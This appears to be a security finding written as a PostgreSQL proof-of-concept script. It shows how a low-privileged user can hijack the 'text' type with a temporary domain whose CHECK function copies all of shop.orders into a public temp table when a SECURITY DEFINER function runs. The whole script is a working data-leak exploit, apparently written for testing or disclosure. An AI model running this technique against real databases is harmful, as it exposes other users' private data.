-- finding: definer-search-path function shop.my_items()
SET ROLE shop_owner;
CREATE FUNCTION shop.my_items() RETURNS SETOF text SECURITY DEFINER LANGUAGE sql SET search_path = ''
  AS $$ SELECT item FROM shop.orders WHERE owner = session_user::text $$;
RESET ROLE;
-- leak as alice@example.com
CREATE TEMPORARY TABLE taken (item text);
GRANT ALL ON pg_temp.taken TO PUBLIC;
CREATE FUNCTION pg_temp.take(value varchar) RETURNS boolean LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO pg_temp.taken SELECT item FROM shop.orders; RETURN true; END $$;
CREATE DOMAIN pg_temp.text AS varchar CHECK (pg_temp.take(VALUE));
SELECT shop.my_items();
SELECT item FROM pg_temp.taken WHERE item = 'secret';
